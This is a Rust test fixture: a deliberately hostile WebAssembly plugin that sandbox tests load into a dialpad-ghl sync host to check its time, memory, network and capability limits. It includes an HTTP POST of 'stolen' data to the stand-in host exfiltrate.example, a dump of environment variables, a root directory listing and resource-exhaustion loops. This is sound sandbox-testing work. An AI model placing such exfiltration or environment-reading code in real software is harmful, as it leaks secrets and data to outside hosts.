//! A deliberately hostile plugin: it exports the same `dialpad-ghl:sync` world as the real one,
//! and the webhook body names the attack. The sandbox tests load it into the real host.
//!
//! - `spin`: loop forever (the epoch deadline must stop it);
//! - `grow`: allocate until memory runs out (the memory cap must stop it);
//! - `exfiltrate`: POST to a host outside the allowlist (the outbound policy must refuse it);
//! - `env`, `read-file`: look for the environment and the filesystem (none may be granted);
//! - `panic`: panic (a trap, which the host must survive).

#![cfg(target_arch = "wasm32")]

wit_bindgen::generate!({ world: "plugin-core", path: "../../wit", generate_all });

use dialpad_ghl::sync::types::OperationInfo;
use dialpad_ghl::sync::types::{EventKind, EventPlan, Handled, InboundEvent, Outcome, Report, Routing, SyncError};
use exports::dialpad_ghl::sync::{actions, backfill, meta, triggers, views};

struct Hostile;

fn report(summary: String) -> Report {
    Report {
        kind: EventKind::Call,
        event_key: "hostile".into(),
        outcome: Outcome::Synced,
        summary,
        contact_id: None,
        note_id: None,
        call_entry_id: None,
        operations: vec![],
    }
}

/// The body of any event: the attack's name.
fn body(event: &InboundEvent) -> &[u8] {
    match event {
        InboundEvent::DialpadWebhook(body) | InboundEvent::PlatformEvent(body) | InboundEvent::HighlevelWebhook(body) => body,
    }
}

fn attack(body: &[u8]) -> Result<Report, SyncError> {
    match String::from_utf8_lossy(body).trim() {
        "spin" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "grow" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "exfiltrate" => match waki::Client::new().post("http://exfiltrate.example:8080/loot").body(b"stolen".to_vec()).send() {
            Ok(r) => Ok(report(format!("exfiltrated: {}", r.status_code()))),
            Err(e) => Err(SyncError::Transport(e.to_string())),
        },
        "env" => Ok(report(format!("env: {:?}", std::env::vars().collect::<Vec<_>>()))),
        "read-file" => Ok(report(match std::fs::read_dir("/") {
            Ok(entries) => format!("listed / with {} entries", entries.count()),
            Err(e) => format!("no filesystem: {e}"),
        })),
        "panic" => panic!("hostile plugin panics"),
        other => Ok(report(format!("harmless: {other}"))),
    }
}

impl triggers::Guest for Hostile {
    fn handle(event: InboundEvent) -> Handled {
        Handled { plan: None, result: attack(body(&event)) }
    }

    fn route(_event: InboundEvent) -> Result<Routing, SyncError> {
        Ok(Routing { kind: EventKind::Call, lane: "hostile".into() })
    }

    fn plan(_event: InboundEvent) -> Result<EventPlan, SyncError> {
        Err(SyncError::MalformedEvent("the hostile plugin does not plan".into()))
    }

    fn normalize(_event: InboundEvent) -> Result<dialpad_ghl::sync::types::NormalizedEvent, SyncError> {
        Err(SyncError::MalformedEvent("the hostile plugin does not normalize".into()))
    }
}

impl views::Guest for Hostile {
    fn get(_subject: views::Subject) -> Result<views::ContactView, SyncError> {
        Err(SyncError::NotFound("the hostile plugin has no views".into()))
    }
}

impl backfill::Guest for Hostile {
    fn sync_page(_window: backfill::Window, _cursor: Option<String>) -> Result<backfill::Page, SyncError> {
        Err(SyncError::NotFound("the hostile plugin has no backfill".into()))
    }

    fn plan_page(_window: backfill::Window, _cursor: Option<String>) -> Result<backfill::PlannedPage, SyncError> {
        Err(SyncError::NotFound("the hostile plugin has no backfill".into()))
    }
}

impl meta::Guest for Hostile {
    fn plugin_version() -> String {
        "0.0.0-hostile".into()
    }
    fn api_version() -> String {
        "0.9.0".into()
    }
    fn config_schema() -> String {
        "{}".into()
    }
    fn validate_config(_config: String) -> Vec<dialpad_ghl::sync::types::Problem> {
        Vec::new()
    }
    fn platform_event_schema() -> String {
        "{}".into()
    }
    fn trigger_catalog() -> Vec<dialpad_ghl::sync::types::TriggerInfo> {
        Vec::new()
    }
}

impl actions::Guest for Hostile {
    fn catalog() -> Vec<OperationInfo> {
        Vec::new()
    }
    fn invoke(_operation_id: String, _input: String) -> Result<String, SyncError> {
        Err(SyncError::UnknownOperation("the hostile plugin has no actions".into()))
    }
}

export!(Hostile);
